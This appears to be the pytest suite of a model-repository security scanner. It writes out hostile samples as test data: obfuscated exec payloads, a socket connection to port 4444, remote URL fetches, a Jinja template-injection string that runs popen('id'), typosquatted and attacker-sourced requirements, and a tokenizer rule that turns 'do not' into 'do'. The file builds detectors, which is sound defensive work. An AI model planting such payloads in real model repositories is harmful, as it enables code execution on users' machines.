"""The repository around the weights: remote code references, Python files, chat templates, tokenizers and
requirements."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from modelseal.core.findings import Severity
from tests.formats.helpers import assert_benign, assert_flagged, findings


def test_transformers_folder_passes(llama: Path) -> None:
    assert {"config.json", "model.safetensors", "tokenizer.json", "tokenizer_config.json"} <= {
        p.name for p in llama.iterdir()
    }
    assert_benign(llama)


def _edit_json(path: Path, edit: Any) -> None:
    doc = json.loads(path.read_text())
    edit(doc)
    path.write_text(json.dumps(doc))


# -- remote code ------------------------------------------------------------------------------------------
def test_auto_map_to_another_repository(repo: Path) -> None:
    _edit_json(repo / "config.json", lambda d: d.update(auto_map={"AutoModel": "evil/repo--modeling.Model"}))
    hits = assert_flagged(repo, "MS-REPO-REMOTE-CODE")
    assert hits[0].file == "config.json"


def test_auto_map_to_missing_module(repo: Path) -> None:
    _edit_json(
        repo / "tokenizer_config.json",
        lambda d: d.update(auto_map={"AutoTokenizer": ["tokenization_x.XTokenizer", None]}),
    )
    assert_flagged(repo, "MS-REPO-REMOTE-CODE")


def test_auto_map_to_local_module_is_a_review_not_a_block(repo: Path) -> None:
    _edit_json(repo / "config.json", lambda d: d.update(auto_map={"AutoModel": "modeling_x.Model"}))
    (repo / "modeling_x.py").write_text("import torch\n\nclass Model(torch.nn.Module):\n    pass\n")
    hits = [f for f in findings(repo) if f.rule_id == "MS-REPO-REMOTE-CODE"]
    assert [h.severity for h in hits] == [Severity.MEDIUM]


# -- python files -----------------------------------------------------------------------------------------
PAYLOAD = "open('/tmp/modelseal-marker', 'w').write('x')"
CODE = {
    "MS-PYCODE-PROCESS": [
        "import os\nos.system('touch /tmp/modelseal-marker')\n",
        "import subprocess as sp\n\ndef init():\n    sp.Popen(['touch', '/tmp/modelseal-marker'])\n",
        "from os import popen\npopen('id')\n",
    ],
    "MS-PYCODE-NETWORK": [
        "import socket\ns = socket.create_connection(('203.0.113.1', 4444))\n",
        "from urllib.request import urlopen\nurlopen('http://203.0.113.1/x')\n",
    ],
    "MS-PYCODE-DYNAMIC-CODE": [
        "name = 'o' + 's'\nmod = __import__(name)\n",
        "import importlib\nm = importlib.import_module(''.join(['o', 's']))\n",
        "import marshal\nexec(marshal.loads(b'...'))\n",
    ],
    "MS-PYCODE-OBFUSCATION": [
        f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode())!r}))\n",
        f"import codecs\ncode = codecs.decode({PAYLOAD!r}, 'rot13')\neval(compile(code, 'x', 'exec'))\n",
        f"blob = {base64.b64encode(b'x' * 600).decode()!r}\n",
    ],
    "MS-PYCODE-UNPARSEABLE": ["def broken(:\n    pass\n"],
}
CASES = [(rule, i) for rule, sources in CODE.items() for i in range(len(sources))]


@pytest.mark.parametrize(("rule", "index"), CASES)
def test_python_files_are_analysed(repo: Path, rule: str, index: int) -> None:
    (repo / "modeling_custom.py").write_text(CODE[rule][index])
    hits = assert_flagged(repo, rule)
    assert hits[0].file == "modeling_custom.py"


def test_ordinary_model_code_passes(repo: Path) -> None:
    (repo / "modeling_custom.py").write_text(
        "import math\nimport torch\nfrom torch import nn\n\n\nclass Block(nn.Module):\n"
        "    def __init__(self, d: int) -> None:\n        super().__init__()\n"
        "        self.fc = nn.Linear(d, d)\n\n"
        "    def forward(self, x):\n        y = self.fc(x).softmax(-1) / math.sqrt(x.shape[-1])\n"
        "        return torch.compile(lambda t: t)(y)\n"
    )
    assert_benign(repo)


# -- chat templates -------------------------------------------------------------------------------------
def test_template_injection_in_tokenizer_config(repo: Path) -> None:
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    (repo / "chat_template.jinja").unlink(missing_ok=True)
    _edit_json(repo / "tokenizer_config.json", lambda d: d.update(chat_template=evil))
    hits = assert_flagged(repo, "MS-TEMPLATE-INJECTION")
    assert hits[0].file == "tokenizer_config.json"


def test_template_injection_in_jinja_file(repo: Path) -> None:
    (repo / "chat_template.jinja").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}")
    assert_flagged(repo, "MS-TEMPLATE-INJECTION")


# -- tokenizers -----------------------------------------------------------------------------------------
def test_normalizer_rewriting_words(repo: Path) -> None:
    rule = {"type": "Replace", "pattern": {"String": "do not"}, "content": "do"}
    _edit_json(repo / "tokenizer.json", lambda d: d["normalizer"]["normalizers"].append(rule))
    assert_flagged(repo, "MS-TOKENIZER-REWRITE")


def _add_token(doc: dict[str, Any], content: str, special: bool) -> None:
    doc["added_tokens"].append(
        {
            "id": 90,
            "content": content,
            "single_word": False,
            "lstrip": False,
            "rstrip": False,
            "normalized": False,
            "special": special,
        }
    )


@pytest.mark.parametrize(("content", "special"), [("password", True), ("ig\u200bnore", False), ("", False)])
def test_hidden_added_tokens(repo: Path, content: str, special: bool) -> None:
    _edit_json(repo / "tokenizer.json", lambda d: _add_token(d, content, special))
    assert_flagged(repo, "MS-TOKENIZER-HIDDEN-TOKEN")


def test_added_token_shadowing_vocabulary(repo: Path) -> None:
    doc = json.loads((repo / "tokenizer.json").read_text())
    word, wid = next((w, i) for w, i in doc["model"]["vocab"].items() if len(w) > 2 and i > 10)
    _edit_json(repo / "tokenizer.json", lambda d: _add_token(d, word, False))
    hits = assert_flagged(repo, "MS-TOKENIZER-HIDDEN-TOKEN")
    assert f"id {wid}" in hits[0].message


# -- requirements ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("reqeusts==2.31.0", "MS-REQ-LOOKALIKE"),
        ("transfomers==4.44.0", "MS-REQ-LOOKALIKE"),
        ("--extra-index-url https://pypi.example.com/simple", "MS-REQ-SOURCE"),
        ("git+https://example.com/evil/torch.git#egg=torch", "MS-REQ-SOURCE"),
    ],
)
def test_requirements(repo: Path, line: str, rule: str) -> None:
    (repo / "requirements.txt").write_text(f"# deps\ntorch==2.3.1\n{line}\n")
    assert_flagged(repo, rule)


def test_unpinned_requirement_is_low(repo: Path) -> None:
    (repo / "requirements.txt").write_text("# deps\ntorch>=2.0\nnumpy\n")
    hits = [f for f in findings(repo) if f.rule_id == "MS-REQ-UNPINNED"]
    assert len(hits) == 2 and all(h.severity == Severity.LOW for h in hits)


def test_whitespace_regex_rewrite_is_not_a_word_rewrite(tmp_path: Path) -> None:
    """Replace(\\s+ -> ▁), the SentencePiece convention, rewrites whitespace; a word rewrite still flags."""
    import json

    from modelseal.api import scan

    def normalizer(pattern: dict[str, str], content: str) -> set[str]:
        root = tmp_path / str(len(list(tmp_path.iterdir())))
        root.mkdir()
        doc = {"normalizer": {"type": "Sequence", "normalizers": [
            {"type": "NFKC"}, {"type": "Replace", "pattern": pattern, "content": content}]}}  # fmt: skip
        (root / "tokenizer.json").write_text(json.dumps(doc))
        return {f.rule_id for f in scan([root]).findings}

    assert "MS-TOKENIZER-REWRITE" not in normalizer({"Regex": r"\s+"}, "▁")
    assert "MS-TOKENIZER-REWRITE" in normalizer({"Regex": r"\bgood\b"}, "bad")
    assert "MS-TOKENIZER-REWRITE" in normalizer({"String": "safe"}, "unsafe")
